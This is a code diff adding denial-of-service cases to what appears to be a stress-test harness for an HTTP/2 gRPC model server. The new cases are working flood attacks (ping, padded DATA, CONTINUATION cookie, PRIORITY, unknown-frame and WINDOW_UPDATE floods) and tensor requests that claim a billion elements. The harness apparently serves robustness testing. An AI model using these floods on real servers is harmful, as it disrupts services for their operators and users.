@@ -30,6 +30,24 @@ _PATIENCE_S: Final = 2.0
 _LARGEST_SEND: Final = 65_536
 
 
+CLAIMS: Final[tuple[tuple[str, types_pb2.DataType, object], ...]] = (
+    ("float_val", types_pb2.DT_FLOAT, 1.5),
+    ("double_val", types_pb2.DT_DOUBLE, 1.5),
+    ("int_val", types_pb2.DT_INT32, 1),
+    ("int_val", types_pb2.DT_UINT8, 1),
+    ("int64_val", types_pb2.DT_INT64, 1),
+    ("bool_val", types_pb2.DT_BOOL, True),
+    ("string_val", types_pb2.DT_STRING, b"x"),
+    ("half_val", types_pb2.DT_HALF, 1),
+    ("half_val", types_pb2.DT_BFLOAT16, 1),
+    ("scomplex_val", types_pb2.DT_COMPLEX64, 1.5),
+    ("dcomplex_val", types_pb2.DT_COMPLEX128, 1.5),
+    ("uint32_val", types_pb2.DT_UINT32, 1),
+    ("uint64_val", types_pb2.DT_UINT64, 1),
+)
+"""The typed fields of tensors, each with a type that uses it and a value."""
+
+
 class Victim:
     """One connection to the server. Sending never blocks for long."""
 
@@ -210,6 +228,43 @@ def _deaf(victim: Victim, rng: random.Random) -> None:
             victim.socket.send(call(stream_id, GOOD))
 
 
+def _unread_pongs(victim: Victim, rng: random.Random) -> None:
+    """Pings on and on, and never reads an answer."""
+    with contextlib.suppress(OSError):
+        victim.socket.send(HELLO)
+        for _ in range(1000):
+            victim.socket.send(frames.ping(b"12345678") * 50)
+
+
+def _claimed_elements(victim: Victim, rng: random.Random) -> None:
+    """A billion elements in each typed field, from one value and from none."""
+    victim.send(HELLO)
+    stream_id = 1
+    for name, dtype, value in CLAIMS:
+        for values in ([value], []):
+            request = predict_pb2.PredictRequest()
+            request.model_spec.name = "scale"
+            tensor = request.inputs["x"]
+            tensor.dtype = dtype
+            tensor.tensor_shape.dim.add(size=10**9)
+            getattr(tensor, name).extend(values)
+            victim.send(call(stream_id, request.SerializeToString()))
+            stream_id += 2
+    victim.listen()
+
+
+def _cookies(index: int) -> bytes:
+    """Returns a request with forty cookies, in as many pieces as may be."""
+    pieces = [b"\x10\x06cookie\x05%05d" % number * 3 for number in range(14)]
+    stream_id = 2 * index + 1
+    sent = head(stream_id, flags=0)
+    for piece in pieces:
+        sent += frames.frame(FrameType.CONTINUATION, 0, stream_id, piece)
+    return sent + frames.frame(
+        FrameType.CONTINUATION, frames.END_HEADERS, stream_id, b""
+    )
+
+
 def _slow(victim: Victim, rng: random.Random) -> None:
     """A byte now, the next one never."""
     whole = HELLO + call(1, GOOD)
@@ -266,6 +321,31 @@ ATTACKS: Final[dict[str, Attack]] = {
         ),
         50,
     ),
+    "padding": _flood(
+        lambda index: (
+            head(1)
+            if index == 0
+            else frames.frame(FrameType.DATA, frames.PADDED, 1, b"\xfe" + bytes(254))
+            * 20
+        ),
+        100,
+    ),
+    "cookies": _flood(_cookies, 100),
+    "priorities": _flood(
+        lambda _: frames.frame(FrameType.PRIORITY, 0, 1, bytes(4) + b"\x10") * 100, 100
+    ),
+    "unknown frames": _flood(lambda _: struct.pack(">IBI", 0x20, 0, 0) * 100, 200),
+    "windows by one": _flood(lambda _: frames.window_update(0, 1) * 100, 100),
+    "windows in midstream": _flood(
+        lambda index: (
+            head(2 * index + 1)
+            + data_frame(2 * index + 1, prefixed(GOOD))
+            + frames.settings({Setting.INITIAL_WINDOW_SIZE: index % 3})
+        ),
+        400,
+    ),
+    "unread pongs": _unread_pongs,
+    "claimed elements": _claimed_elements,
 }
 
 
